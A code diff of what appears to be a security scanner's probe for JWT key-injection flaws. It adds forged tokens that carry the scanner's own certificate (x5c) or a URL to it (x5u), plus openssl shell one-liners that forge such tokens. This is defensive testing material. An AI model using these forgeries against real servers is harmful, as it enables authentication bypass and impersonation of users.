@@ -1,7 +1,9 @@
 import { createHmac, createPublicKey, generateKeyPairSync, type KeyObject, sign } from 'node:crypto'
+import type { JsonObject } from '../../../../shared/json.ts'
 import { activeProbe, type ProbeContext } from '../../../model/probe.ts'
 import { isJsonObject, readJsonObject } from '../../../read/formats/json.ts'
 import { decodeJwt, encodeJwtPart, type Jwt, joinJwt, splitJwt } from '../../../read/formats/jwt.ts'
+import { issueSelfSigned, type KeyPair, writePem } from '../../../read/formats/selfSignedCertificate.ts'
 import { type ForgedKey, tryForgedKeys } from './_forgedKeys.ts'
 import { verificationVariants } from './_tokenFix.ts'
 import type { OwnToken } from './_tokenPlaces.ts'
@@ -17,8 +19,8 @@ type Context = ProbeContext<'target' | 'responses'>
  * Finds servers that verify a JSON Web Token (JWT) with a key that an attacker has.
  *
  * Certain: the scan's own claims got the response of the valid token, and the same token with another signature was
- * refused. The key is in the header (`jwk`), at a callback URL in the header (`jku`), or is the public key of the
- * server, used as HMAC secret. Fires on `verify(token, header.jwk)`; not on a fixed key set, nor on servers that verify
+ * refused. The key is in the header (`jwk`, `x5c`), at a callback URL in the header (`jku`, `x5u`), or is the public
+ * key of the server, used as HMAC secret. Fires on `verify(token, header.jwk)`; not on a fixed key set, nor on servers that verify
  * nothing, which are `auth.jwt-none`. Sources: RFC 8725, 2.1 and 3.10; RFC 7515, 4.1; CVE-2016-5431.
  */
 export default activeProbe({
@@ -69,22 +71,31 @@ async function forge(context: Context, { text }: OwnToken): Promise<readonly For
   return [...publicKeys.flatMap((key) => confuse(signed, key)), ...(await embed(context, signed))]
 }
 
+type Named = { readonly about: string; readonly header: JsonObject; readonly command: string | null }
+
 async function embed({ callbacks, random }: Context, signed: Signed): Promise<readonly ForgedKey[]> {
   const [own, other] = [makeKeys(), makeKeys()]
-  const jwk = { ...own.publicKey.export({ format: 'jwk' }), alg: 'RS256', use: 'sig', kid: random.word() }
-  const callback = await callbacks?.open({ text: JSON.stringify({ keys: [jwk] }) })
-  const named = [
-    { about: 'with its own key in the header (jwk)', header: { jwk }, command: embeddedCommand },
-    ...(callback == null
-      ? []
-      : [
-          {
-            about: 'with the URL of its own key in the header (jku)',
-            header: { jku: callback.url, kid: jwk.kid },
-            command: null,
-          },
-        ]),
+  const kid = random.word()
+  const jwk = { ...own.publicKey.export({ format: 'jwk' }), alg: 'RS256', use: 'sig', kid }
+  const certificate = issueSelfSigned(own, kid)
+  const inside: readonly Named[] = [
+    { about: 'with its own key in the header (jwk)', header: { jwk: { ...jwk } }, command: embeddedCommand },
+    {
+      about: 'with its own certificate in the header (x5c)',
+      header: { x5c: [certificate.toString('base64')] },
+      command: certifiedCommand,
+    },
   ]
+  const documents = [
+    { name: 'jku', thing: 'key', text: JSON.stringify({ keys: [jwk] }) },
+    { name: 'x5u', thing: 'certificate', text: writePem(certificate) },
+  ]
+  const outside = documents.map(async ({ name, thing, text }): Promise<readonly Named[]> => {
+    const callback = await callbacks?.open({ text })
+    const about = `with the URL of its own ${thing} in the header (${name})`
+    return callback == null ? [] : [{ about, header: { [name]: callback.url, kid }, command: null }]
+  })
+  const named = [...inside, ...(await Promise.all(outside)).flat()]
   return named.map(({ about, header, command }) => {
     const start = encodeJwtPart(JSON.stringify({ alg: 'RS256', typ: 'JWT', ...header }))
     const text = (key: KeyObject) => {
@@ -98,7 +109,7 @@ async function embed({ callbacks, random }: Context, signed: Signed): Promise<re
   })
 }
 
-function makeKeys(): { readonly publicKey: KeyObject; readonly privateKey: KeyObject } {
+function makeKeys(): KeyPair {
   return generateKeyPairSync('rsa', { modulusLength: keyBits })
 }
 
@@ -147,3 +158,4 @@ const shellToken = `P=$(printf %s "$TOKEN" | cut -d. -f2); printf %s "$H.$P.$(pr
 /** The modulus lies at a fixed place of the DER form: RFC 8017, A.1.1. */
 const shellModulus = `N=$(openssl rsa -in "$K" -pubout -outform DER 2>/dev/null | tail -c 261 | head -c 256 | b)`
 const embeddedCommand = `$(${shellKey}; ${shellModulus}; H=$(printf '{"alg":"RS256","typ":"JWT","jwk":{"kty":"RSA","e":"AQAB","n":"%s"}}' "$N" | b); ${shellToken})`
+const certifiedCommand = `$(${shellKey}; C=$(openssl req -x509 -new -key "$K" -subj /CN=scan -outform DER | openssl base64 -A); H=$(printf '{"alg":"RS256","typ":"JWT","x5c":["%s"]}' "$C" | b); ${shellToken})`
